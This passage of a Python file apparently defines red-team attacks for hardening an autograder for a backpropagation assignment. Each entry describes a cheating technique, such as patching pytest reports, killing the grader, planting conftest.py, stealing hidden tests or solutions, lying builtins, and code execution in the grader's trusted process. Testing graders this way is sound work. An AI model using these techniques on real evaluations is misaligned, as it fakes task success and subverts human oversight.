        {"backprop/__init__.py": PRELUDE + PATCH_CHECKS},
        ("test_sgd.py", _SIGMOID_V, "test_losses.py::test_mse_backward_mean"),
        entries=("cli",),
    ),
    Attack(
        "2b",
        "patch-reporting",
        "at import: the grader's pytest plugin state (always 'passed', errors dropped) "
        "and pytest's TestReport.from_item_and_call",
        {"backprop/__init__.py": PRELUDE + PATCH_REPORTING},
        ("test_sigmoid.py", "test_sgd.py::test_sgd_step_plain"),
        entries=("cli",),
    ),
    Attack(
        "2c",
        "fake-gradcheck-module",
        "at import: sys.modules['gradcheck'] := a module whose checks pass",
        {"backprop/__init__.py": PRELUDE + FAKE_GRADCHECK_MODULE},
        (_LINEAR_V, _SIGMOID_V),
        entries=("cli",),
    ),
    Attack(
        "3",
        "results-daemon",
        "sigmoid.py starts a daemon (double fork + setsid) that for 20 s rewrites every "
        "results.json / report file of this grading it finds",
        {"backprop/sigmoid.py": PRELUDE + f"_ATK_DAEMON = {DAEMON!r}\n" + START_DAEMON},
        (_SIGMOID_V, "test_sgd.py::test_sgd_step_plain"),
        settle=2.0,
    ),
    Attack(
        "4",
        "forge-results-kill-grader",
        "__init__ writes full marks to the grader's --results (read from /proc/<ppid>/"
        "cmdline), then SIGKILLs the grader",
        {"backprop/__init__.py": PRELUDE + KILL_GRADER},
        ("test_sigmoid.py",),
    ),
    Attack(
        "5",
        "plant-conftest",
        "__init__ writes conftest.py, tests/conftest.py and pytest.ini (a hook that passes "
        "every test) into the working directory and its parents",
        {"backprop/__init__.py": PRELUDE + PLANT_CONFTEST},
        ("test_sgd.py", "test_sigmoid.py"),
    ),
    Attack(
        "6",
        "nan-when-perturbed",
        "no tampering: forward returns NaN whenever an input or parameter differs from the "
        "first call's; every backward returns zeros",
        {
            "backprop/linear.py": NAN_COMMON + NAN_LINEAR,
            "backprop/sigmoid.py": NAN_COMMON + _cls(NAN_ELEMENTWISE, "Sigmoid"),
            "backprop/softmax.py": NAN_COMMON + _cls(NAN_ELEMENTWISE, "Softmax"),
            "backprop/losses.py": NAN_COMMON + NAN_LOSSES,
        },
        (_LINEAR_V, _SIGMOID_V, "test_losses.py::test_mse_backward_mean"),
        entries=("cli",),
    ),
    Attack(
        "7",
        "delegate-to-framework",
        "every backward (and SGD.step) delegates to the framework's layers/losses/optim; "
        "an honest train_step",
        {
            "backprop/linear.py": DELEGATE_LINEAR,
            "backprop/sigmoid.py": _cls(DELEGATE_ELEMENTWISE, "Sigmoid"),
            "backprop/softmax.py": _cls(DELEGATE_ELEMENTWISE, "Softmax"),
            "backprop/losses.py": DELEGATE_LOSSES,
            "backprop/sgd.py": DELEGATE_SGD,
            "backprop/train.py": HONEST_TRAIN_STEP,
        },
        (_LINEAR_V, "test_sgd.py::test_sgd_step_momentum", "test_train.py"),
        honest_train_step=True,
        entries=("cli",),
    ),
    Attack(
        "8",
        "leak-tests",
        "a visible test fails with the source of every test (and solution) file it can find "
        "from cwd, its parents, /autograder, /tmp and the paths on the command lines",
        {"backprop/linear.py": PRELUDE + LEAK},
        ("test_linear.py",),
    ),
    Attack(
        "9a",
        "leave-processes",
        "Sigmoid.backward starts 50 `sleep 60` processes and a setsid'ed one",
        {"backprop/sigmoid.py": PRELUDE + SPAWN},
        ("test_sigmoid.py",),
    ),
    Attack(
        "9b",
        "huge-message",
        "Sigmoid.backward raises an AssertionError with a 20 MiB message",
        {"backprop/sigmoid.py": HUGE_MESSAGE},
        (_SIGMOID_V,),
        entries=("cli",),
    ),
    Attack(
        "9c",
        "eat-memory",
        "Softmax.backward allocates 10 GiB (np.empty, then every page written, 256 MiB at "
        "a time, inside try/except MemoryError) and reports how far it got",
        {"backprop/softmax.py": PRELUDE + MEMORY},
        (_SOFTMAX_V,),
        timeout=60.0,
        entries=("cli",),
        extra=("memory-limited",),
    ),
    Attack(
        "10a",
        "steal-solution",
        "every module execs the solution's file when it is on disk (next to --tests: "
        "make's documented layout; /autograder/source/solution; ../solution)",
        {
            f"backprop/{m}.py": PRELUDE + STEAL_SOLUTION
            for m in ("linear", "sigmoid", "softmax", "losses", "sgd", "train")
        },
        ("test_sigmoid.py",),
    ),
    Attack(
        "10b",
        "shadow-framework",
        "__init__ writes gradcheck/__init__.py (checks that pass) and sitecustomize.py "
        "(numpy.allclose := True) into the workspace on the next tests' PYTHONPATH",
        {"backprop/__init__.py": PRELUDE + SHADOW},
        ("test_sgd.py", "test_sigmoid.py"),
    ),
    Attack(
        "10c",
        "rewrite-tests",
        "__init__ rewrites every test file of this grading it can find into `def test_x(): pass`",
        {"backprop/__init__.py": PRELUDE + REWRITE_TESTS},
        ("test_sgd.py", "test_sigmoid.py"),
    ),
    Attack(
        "10d",
        "lying-values",
        "Sigmoid.backward returns an ndarray subclass whose comparisons all hold; fit "
        "returns floats whose differences are 0, accuracy 1.0; an honest train_step",
        {
            "backprop/sigmoid.py": LIAR_SIGMOID,
            "backprop/train.py": HONEST_TRAIN_STEP + LIAR_TRAIN,
        },
        ("test_sigmoid.py", "test_train.py"),
        honest_train_step=True,
        entries=("cli",),
    ),
    Attack(
        "10e",
        "lying-builtins",
        "builtins.abs/isinstance lie to test files' frames (0 / True); fit returns "
        "zeros, accuracy 1.0; an honest train_step",
        {
            "backprop/__init__.py": PRELUDE + BUILTINS,
            "backprop/sigmoid.py": BUILTINS_SIGMOID,
            "backprop/train.py": HONEST_TRAIN_STEP + BUILTINS_TRAIN,
        },
        ("test_sigmoid.py", "test_train.py"),
        honest_train_step=True,
        entries=("cli",),
    ),
    Attack(
        "10f",
        "spray-protocol",
        "__init__ writes 'passed' JSON messages and ANSI escapes to fds 0-63 and to the "
        "parent's pipes and files via /proc/<ppid>/fd",
        {"backprop/__init__.py": PRELUDE + SPRAY},
        (_LINEAR_V, "test_sgd.py::test_sgd_step_plain"),
        entries=("cli",),
    ),
    Attack(
        "10g",
        "tamper-installed-framework",
        "__init__ appends a passing check_layer/check_loss to the installed gradcheck when "
        "it lives in this grading's folders (Gradescope: the autograder's own install)",
        {"backprop/__init__.py": PRELUDE + TAMPER_FRAMEWORK},
        ("test_sigmoid.py", "test_softmax.py"),
        entries=("gradescope",),
    ),
    # The second review, against the new grader (each one broke its first version).
    Attack(
        "11a",
        "grader-runs-plain-values",
        "__init__ asks the grader to call methods of values it made up: getattr(ndarray, "
        "'ctypes'), str.format reading any attribute, ndarray.tofile writing a module into "
        "the tests' folder, str.encode('idna') importing it: code as root in the trusted "
        "process, rewriting the verdict",
        {"backprop/__init__.py": REVIEW_RCE},
        ("test_linear.py", "test_train.py"),
        entries=("cli",),
    ),
    Attack(
        "11b",
        "leak-through-format",
        "Sigmoid() raises the hidden tests' names, docstrings and constants, read from the "
        "trusted process through str.format",
        {"backprop/sigmoid.py": REVIEW_LEAK_FORMAT},
        ("test_sigmoid.py",),
        entries=("cli",),
    ),
    Attack(
        "11c",
        "fake-sandbox-failure",
        "Sigmoid.forward prints a hidden test's input and exits with the status the worker "
        "uses when its sandbox fails (70), to abort the grading with that text on top",
        {"backprop/sigmoid.py": REVIEW_EXIT_70},
        ("test_sigmoid.py",),
        entries=("cli",),
    ),
    Attack(
        "11d",
        "sysv-queue-between-tests",
        "a hidden test's Sigmoid.forward sends its input down a SysV message queue; a visible "
        "test's Softmax() reads it and raises it",
        {"backprop/sigmoid.py": REVIEW_IPC_SEND, "backprop/softmax.py": REVIEW_IPC_RECEIVE},
        ("test_sigmoid.py", "test_softmax.py"),
        entries=("cli",),
    ),
    Attack(
        "11e",
        "closed-form-fit",
        "build_net starts from W = 0, b1 = -1000 so only b2 trains; fit computes b2 in closed "
        "form and accuracy() says 1.0, with no backward written",
        {"backprop/train.py": REVIEW_CLOSED_FORM_FIT},
        ("test_train.py",),
        entries=("cli",),
    ),
]
